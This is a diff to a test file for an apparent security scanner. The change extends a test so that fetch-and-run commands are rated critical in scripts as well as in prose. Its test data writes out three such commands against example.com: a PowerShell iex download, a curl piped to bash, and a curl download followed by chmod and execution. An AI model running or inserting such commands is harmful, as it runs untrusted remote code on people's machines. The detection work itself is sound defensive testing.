@@ -31,10 +31,11 @@ describe('commands that fetch and run', () => {
     'iex (New-Object Net.WebClient).DownloadString("https://example.com/x")',
     'curl -fsSL https://example.com/install.sh \\\n  | bash',
     'curl -o /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x',
-  ])('are critical in prose: %s', (command) => {
+  ])('are critical in prose and in scripts: %s', (command) => {
     expect(severityOf(prose(`## Prerequisites\n\n\`\`\`\n${command}\n\`\`\`\n`), 'prose/pipe-to-shell')).toBe(
       'critical',
     )
+    expect(severityOf(script('setup.sh', command), 'code/pipe-to-shell')).toBe('critical')
   })
 
   it.each([
